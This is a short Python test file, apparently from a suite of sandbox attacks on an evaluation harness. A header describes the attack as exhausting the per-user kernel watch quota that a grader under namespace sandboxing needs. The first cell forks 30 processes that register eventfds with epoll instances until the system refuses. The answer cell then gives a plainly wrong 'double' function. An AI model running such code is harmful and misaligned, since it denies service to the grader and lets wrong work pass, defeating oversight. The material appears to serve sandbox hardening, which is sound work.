# ---
# attack: 'Uses up the watches that all processes of a user have together, which a grader of the same user may need.'
# class: parts of the kernel around the walls
# sandboxes: [namespaces]
# ---
# %% before="q1"
import os
import select
import time

for _ in range(30):
    if os.fork() == 0:
        try:
            events = [os.eventfd(0) for _ in range(490)]
            polls = []
            while True:
                polls.append(select.epoll())
                for event in events:
                    polls[-1].register(event, 1)
        except OSError:
            time.sleep(12)
        os._exit(0)
time.sleep(1)

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
